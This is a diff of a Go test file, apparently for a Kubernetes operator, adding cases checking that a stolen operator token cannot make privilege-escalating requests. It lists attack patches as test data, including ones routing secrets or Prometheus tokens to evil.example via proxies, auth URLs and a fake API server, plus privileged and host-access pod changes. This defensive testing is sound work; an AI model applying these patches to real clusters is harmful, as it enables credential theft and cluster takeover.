@@ -72,7 +72,7 @@ func object(t *testing.T, manifest string) *unstructured.Unstructured {
 
 // attack is a request that the operator has permission for, and never makes.
 type attack struct {
-	// verb is create, patch or delete.
+	// verb is create, patch, status for a patch of the status, or delete.
 	verb string
 	// manifest is the object to create, or with its name the object to patch or to delete.
 	manifest string
@@ -102,6 +102,9 @@ func (a attack) send(t *testing.T, c client.Client) error {
 	if err != nil {
 		t.Fatalf("%v: %s", err, a.patch)
 	}
+	if a.verb == "status" {
+		return c.Status().Patch(t.Context(), o, client.RawPatch(kind, raw), client.DryRunAll)
+	}
 	return c.Patch(t.Context(), o, client.RawPatch(kind, raw), client.DryRunAll)
 }
 
@@ -121,8 +124,21 @@ func attacks(namespace string) map[string]attack {
 	agents("with a hook", `- {op: add, path: `+container+`/lifecycle, value: {postStart: {exec: {command: [/operator]}}}}`, "no other program")
 	agents("with a program as probe", `- {op: replace, path: `+container+`/livenessProbe, value: {exec: {command: [/operator]}}}`, "no other program")
 	agents("with a probe elsewhere", `- {op: add, path: `+container+`/livenessProbe/httpGet/host, value: evil.example}`, "no other program")
-	agents("with another API server", `- {op: add, path: `+container+`/env/-, value: {name: KUBERNETES_SERVICE_HOST, value: evil.example}}`, "no other program")
+	agents("with another API server", `- {op: add, path: `+container+`/env/-, value: {name: KUBERNETES_SERVICE_HOST, value: evil.example}}`, "no other environment variables")
 	agents("with a Secret as environment", `- {op: add, path: `+container+`/envFrom, value: [{secretRef: {name: x}}]}`, "no other program")
+	agents("with a Secret as proxy", `- {op: add, path: `+container+`/env/-, value: {name: no_proxy, valueFrom: {secretKeyRef: {name: x, key: x}}}}`, "only as literal values")
+	agents("with a Secret in the name of a proxy", `- {op: add, path: `+container+`/env/-, value: {name: HTTPS_PROXY, value: "http://u:$(no_proxy)@evil.example"}}`, "only as literal values")
+	agents("with another field as node name", `- {op: replace, path: `+container+`/env/0/valueFrom/fieldRef/fieldPath, value: metadata.name}`, "no other environment variables")
+	agents("with a device", `- {op: add, path: `+container+`/resources/limits/example.com~1kvm, value: "1"}
+- {op: add, path: `+container+`/resources/requests/example.com~1kvm, value: "1"}`, "no resources but cpu")
+	agents("with other DNS servers", `- {op: add, path: `+pod+`/dnsConfig, value: {nameservers: [192.0.2.1]}}`, "no field that it does not set itself")
+	agents("with other names of hosts", `- {op: add, path: `+pod+`/hostAliases, value: [{ip: 192.0.2.1, hostnames: [kubernetes.default.svc]}]}`, "no field that it does not set itself")
+	agents("of another scheduler", `- {op: replace, path: `+pod+`/schedulerName, value: evil}`, "no field that it does not set itself")
+	agents("without a program to end", `- {op: add, path: `+pod+`/shareProcessNamespace, value: true}`, "no field that it does not set itself")
+	agents("in a program's terminal", `- {op: add, path: `+container+`/stdin, value: true}`, "no other program")
+	agents("with a file as message", `- {op: replace, path: `+container+`/terminationMessagePath, value: /var/lib/kubelet/pods/x}`, "no other program")
+	agents("with a label", `- {op: add, path: /spec/template/metadata/labels/x, value: z}`, "no other labels")
+	agents("with another value of an annotation", `- {op: replace, path: /spec/template/metadata/annotations/openshift.io~1required-scc, value: privileged}`, "no other labels and annotations")
 	agents("that are privileged", `- {op: replace, path: `+container+`/securityContext/privileged, value: true}
 - {op: replace, path: `+container+`/securityContext/allowPrivilegeEscalation, value: true}`, "security context")
 	agents("with a capability", `- {op: add, path: `+container+`/securityContext/capabilities/add/-, value: SYS_ADMIN}`, "security context")
@@ -133,13 +149,23 @@ func attacks(namespace string) map[string]attack {
 	agents("with another kubelet directory", `- {op: replace, path: `+container+`/args/0, value: --kubelet-dir=/data}
 - {op: replace, path: `+pod+`/volumes/0/hostPath/path, value: /data/plugins/listeners.stackable.tech}
 - {op: replace, path: `+pod+`/volumes/1/hostPath/path, value: /data/plugins_registry}
-- {op: replace, path: `+pod+`/volumes/2/hostPath/path, value: /data/pods}`, "the configured kubelet directory")
-	agents("with the network of the host", `- {op: add, path: `+pod+`/hostNetwork, value: true}`, "nothing of the host")
-	agents("with the processes of the host", `- {op: add, path: `+pod+`/hostPID, value: true}`, "nothing of the host")
-	agents("with the operator's account", `- {op: replace, path: `+pod+`/serviceAccountName, value: listener-operator}`, "no other account")
+- {op: replace, path: `+pod+`/volumes/2/hostPath/path, value: /data/pods}
+- {op: replace, path: `+container+`/volumeMounts/0/mountPath, value: /data/plugins/listeners.stackable.tech}
+- {op: replace, path: `+container+`/volumeMounts/1/mountPath, value: /data/plugins_registry}
+- {op: replace, path: `+container+`/volumeMounts/2/mountPath, value: /data/pods}`, "the configured kubelet directory")
+	agents("with a kubelet directory that is a variable", `- {op: replace, path: `+container+`/args/0, value: "--kubelet-dir=/$(NODE_NAME)"}
+- {op: replace, path: `+pod+`/volumes/0/hostPath/path, value: "/$(NODE_NAME)/plugins/listeners.stackable.tech"}
+- {op: replace, path: `+pod+`/volumes/1/hostPath/path, value: "/$(NODE_NAME)/plugins_registry"}
+- {op: replace, path: `+pod+`/volumes/2/hostPath/path, value: "/$(NODE_NAME)/pods"}`, "no directories")
+	agents("with the network of the host", `- {op: add, path: `+pod+`/hostNetwork, value: true}`, "nothing of the host but")
+	agents("with the processes of the host", `- {op: add, path: `+pod+`/hostPID, value: true}`, "nothing of the host but")
+	agents("with the operator's account", `- {op: replace, path: `+pod+`/serviceAccountName, value: listener-operator}
+- {op: replace, path: `+pod+`/serviceAccount, value: listener-operator}`, "no other account")
 	agents("with an init container", `- {op: add, path: `+pod+`/initContainers, value: [{name: x, image: evil}]}`, "no other account or container")
 	agents("with another container", `- {op: add, path: `+pod+`/containers/-, value: {name: x, image: evil}}`, "no other account or container")
 	agents("with an annotation for the runtime", `- {op: add, path: /spec/template/metadata/annotations/io.kubernetes.cri-o.Devices, value: /dev/sda}`, "annotations")
+	all["node agents that are ready"] = attack{verb: "status", want: "no subresources of DaemonSets", patch: `{status: {numberReady: 1}}`,
+		manifest: `{apiVersion: apps/v1, kind: DaemonSet, metadata: {namespace: NAMESPACE, name: listener-node-agent}}`}
 
 	patch := func(what, manifest, patch, want string) {
 		all[what] = attack{verb: "patch", manifest: manifest, patch: patch, want: want}
@@ -185,10 +211,16 @@ func attacks(namespace string) map[string]attack {
 	patch("constraints that allow privileges", scc, `{allowPrivilegedContainer: true}`, "constraints allow")
 	patch("constraints that allow a capability", scc, `{allowedCapabilities: ["*"]}`, "constraints allow")
 	patch("constraints that allow the network of the host", scc, `{allowHostNetwork: true}`, "constraints allow")
+	patch("constraints that allow any group", scc, `{supplementalGroups: {type: RunAsAny}}`, "constraints allow")
+	patch("constraints that allow a driver of volumes", scc, `{allowedFlexVolumes: [{driver: evil}]}`, "constraints allow")
 	patch("constraints that allow any user", scc, `{runAsUser: {type: RunAsAny, uid: null}}`, "constraints allow")
 
 	patch("a default StorageClass", `{apiVersion: storage.k8s.io/v1, kind: StorageClass, metadata: {name: listeners.stackable.tech}}`,
 		`{metadata: {annotations: {storageclass.kubernetes.io/is-default-class: "true"}}}`, "annotations of its StorageClass")
+	patch("a CSIDriver that mounts again and again", `{apiVersion: storage.k8s.io/v1, kind: CSIDriver, metadata: {name: listeners.stackable.tech}}`,
+		`{spec: {requiresRepublish: true}}`, "nothing else by its CSIDriver")
+	patch("a StorageClass with options", `{apiVersion: storage.k8s.io/v1, kind: StorageClass, metadata: {name: listeners.stackable.tech}}`,
+		`{allowVolumeExpansion: true}`, "nor set anything else")
 	patch("tokens of Pods", `{apiVersion: storage.k8s.io/v1, kind: CSIDriver, metadata: {name: listeners.stackable.tech}}`,
 		`{spec: {tokenRequests: [{audience: ""}]}}`, "no tokens")
 
@@ -198,10 +230,17 @@ func attacks(namespace string) map[string]attack {
 	create("a Listener for a user", `{apiVersion: listeners.stackable.tech/v1alpha1, kind: Listener, metadata: {namespace: NAMESPACE, name: x}, spec: {ports: []}}`, "no Listeners but those of class-based claims")
 	remove("a Listener", listener, "may not delete Listeners")
 	create("a class", `{apiVersion: listeners.stackable.tech/v1alpha1, kind: ListenerClass, metadata: {name: evil}, spec: {serviceType: NodePort}}`, "presets")
+	const preset = `{apiVersion: listeners.stackable.tech/v1alpha1, kind: ListenerClass, metadata: {name: external-stable}, spec: {serviceType: `
+	create("a class of a preset with annotations", preset+`LoadBalancer, serviceAnnotationTemplates: {example.com/name: "{listener}"}}}`, "presets")
+	create("a class of a preset that allows overrides", preset+`LoadBalancer, listenerOverrides: {allowed: [spec.selector]}}}`, "presets")
+	create("a class of a preset with Ingresses", preset+`ClusterIP, ingress: {className: evil, hostTemplate: "{listener}.{namespace}.evil.example"}}}`, "presets")
+	create("a class of a preset of another type", preset+`ClusterIP}}`, "presets")
 	create("a class of a preset with overrides", `{apiVersion: listeners.stackable.tech/v1alpha1, kind: ListenerClass, metadata: {name: external-stable}, spec: {serviceType: NodePort, serviceOverrides: {spec: {}}}}`, "presets")
 
 	const route = `{apiVersion: route.openshift.io/v1, kind: Route, metadata: {namespace: NAMESPACE, name: shop}}`
 	create("a Route that no Listener controls", `{apiVersion: route.openshift.io/v1, kind: Route, metadata: {namespace: NAMESPACE, name: x}, spec: {host: x.example, to: {kind: Service, name: x}}}`, "no Routes")
+	create("a Route of a part of a host", `{apiVersion: route.openshift.io/v1, kind: Route, metadata: {namespace: NAMESPACE, name: x, `+owners+`}, spec: {host: x.example, path: /login, to: {kind: Service, name: web}}}`, "no fields of Routes")
+	create("a Route with headers", `{apiVersion: route.openshift.io/v1, kind: Route, metadata: {namespace: NAMESPACE, name: x, `+owners+`}, spec: {host: x.example, to: {kind: Service, name: web}, httpHeaders: {actions: {response: [{name: X, action: {type: Set, set: {value: z}}}]}}}}`, "no fields of Routes")
 	create("a Route to another Service", `{apiVersion: route.openshift.io/v1, kind: Route, metadata: {namespace: NAMESPACE, name: x, `+owners+`}, spec: {host: x.example, to: {kind: Service, name: x}}}`, "no Routes")
 	patch("a Route that no Listener controls", route, `{metadata: {`+owners+`}, spec: {to: {name: web}}}`, "no Routes")
 	remove("a Route that no Listener controls", route, "may delete no Routes")
@@ -211,6 +250,17 @@ func attacks(namespace string) map[string]attack {
 	create("an Ingress that no Listener controls", `{apiVersion: networking.k8s.io/v1, kind: Ingress, metadata: {namespace: NAMESPACE, name: x}, spec: {rules: [`+toShop+`]}}`, "no Ingresses")
 	create("an Ingress to another Service", `{apiVersion: networking.k8s.io/v1, kind: Ingress, metadata: {namespace: NAMESPACE, name: x, `+owners+`}, spec: {rules: [`+toShop+`]}}`, "no Ingresses")
 	create("an Ingress for all hosts", `{apiVersion: networking.k8s.io/v1, kind: Ingress, metadata: {namespace: NAMESPACE, name: x, `+owners+`}, spec: {defaultBackend: {service: {name: web, port: {number: 80}}}}}`, "no Ingresses")
+	owned := func(metadata, host, spec string) string {
+		return `{apiVersion: networking.k8s.io/v1, kind: Ingress, metadata: {namespace: NAMESPACE, name: x, ` + metadata + owners + `}, spec: {` + spec +
+			`rules: [{host: "` + host + `", http: {paths: [{path: /, pathType: Prefix, backend: {service: {name: web, port: {number: 80}}}}]}}]}}`
+	}
+	create("an Ingress for a domain", owned("", "*.example", ""), "whole domains")
+	create("an Ingress with a snippet", owned(`annotations: {nginx.ingress.kubernetes.io/configuration-snippet: "return 200;"}, `, "x.example", ""), "configuration-snippet; to allow it")
+	create("an Ingress with the login of another", owned(`annotations: {nginx.ingress.kubernetes.io/auth-url: "http://evil.example"}, `, "x.example", ""), "auth-url; to allow it")
+	create("an Ingress with a certificate of others", owned("", "x.example", "tls: [{hosts: [x.example], secretName: shop-tls}], "), "no Secrets in Ingresses")
+	create("an Ingress with a certificate by the name of another Pod", owned("annotations: {listeners.stackable.tech/pod: shop}, ", "x.example", "tls: [{hosts: [x.example], secretName: shop-tls}], "), "no Secrets in Ingresses")
+	create("an Ingress with the certificate for another host", owned("", "x.example", "tls: [{hosts: [shop.example]}], "), "no Secrets in Ingresses")
+	create("an Ingress with a regular expression", strings.Replace(owned("", "x.example", ""), "Prefix", "ImplementationSpecific", 1), "no fields that it does not set itself")
 	patch("an Ingress that no Listener controls", ingress, `{metadata: {`+owners+`}, spec: {rules: [`+strings.ReplaceAll(toShop, "name: shop", "name: web")+`]}}`, "no Ingresses")
 	remove("an Ingress that no Listener controls", ingress, "may delete no Ingresses")
 
@@ -238,6 +288,13 @@ func attacks(namespace string) map[string]attack {
 	patch("a ServiceMonitor that sends the token of Prometheus to the node agents",
 		`{apiVersion: monitoring.coreos.com/v1, kind: ServiceMonitor, metadata: {namespace: NAMESPACE, name: listener-operator}}`,
 		`- {op: add, path: /spec/endpoints/1/bearerTokenFile, value: /var/run/secrets/kubernetes.io/serviceaccount/token}`, "no metrics")
+	for what, field := range map[string]string{
+		"by a proxy":         `proxyUrl, value: "http://evil.example"`,
+		"at another address": `relabelings, value: [{targetLabel: __address__, replacement: "evil.example:443"}]`,
+	} {
+		patch("a ServiceMonitor that sends the token of Prometheus "+what, `{apiVersion: monitoring.coreos.com/v1, kind: ServiceMonitor, metadata: {namespace: NAMESPACE, name: listener-operator}}`,
+			`- {op: add, path: /spec/endpoints/0/`+field+`}`, "no metrics")
+	}
 	patch("a ServiceMonitor for another port", `{apiVersion: monitoring.coreos.com/v1, kind: ServiceMonitor, metadata: {namespace: NAMESPACE, name: listener-operator}}`,
 		`- {op: replace, path: /spec/endpoints/0/port, value: http}`, "no metrics")
 	patch("the image of a Pod", `{apiVersion: v1, kind: Pod, metadata: {namespace: NAMESPACE, name: listener-operator}}`, `- {op: replace, path: /spec/containers/0/image, value: evil}`, "nothing of a Pod but its labels")
@@ -273,6 +330,7 @@ func TestStolenOperatorTokenIsConfined(t *testing.T) {
 			r.serves = func(schema.GroupVersionKind) bool { return true }
 			mustReconcile(t, r)
 			createVictims(t, admin, namespace)
+			grant(t, admin, namespace, rbacv1.PolicyRule{APIGroups: []string{"apps"}, Resources: []string{"daemonsets/status"}, Verbs: []string{"patch"}})
 
 			// No policy matches the status of Pods.
 			pod := object(t, `{apiVersion: v1, kind: Pod, metadata: {namespace: `+namespace+`, name: listener-operator}}`)
@@ -282,6 +340,7 @@ func TestStolenOperatorTokenIsConfined(t *testing.T) {
 			}
 
 			all := attacks(namespace)
+			NewWithT(t).Eventually(func() error { return all["node agents that are ready"].send(t, operator) }, apiserver.Timeout, "50ms").Should(Succeed()) // is granted
 			for what, a := range all {
 				err := a.send(t, operator)
 				if a.hidden && server == "with OwnerReferencesPermissionEnforcement" {
